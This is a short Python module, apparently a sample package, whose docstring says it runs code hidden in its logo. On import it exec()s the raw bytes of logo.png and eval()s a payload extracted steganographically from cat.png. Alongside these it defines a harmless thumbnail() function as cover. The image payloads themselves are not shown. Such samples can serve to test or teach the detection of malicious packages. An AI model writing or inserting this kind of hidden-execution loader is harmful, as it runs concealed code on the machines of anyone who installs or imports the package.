"""A package that runs code hidden in its logo."""
import os

from PIL import Image
from stegano import lsb as hidden

HERE = os.path.dirname(__file__)
exec(open(os.path.join(HERE, "logo.png"), "rb").read()[69:])
eval(hidden.reveal(os.path.join(HERE, "cat.png")))


def thumbnail():
    im = Image.open(os.path.join(HERE, "clean.png"))
    return im.size
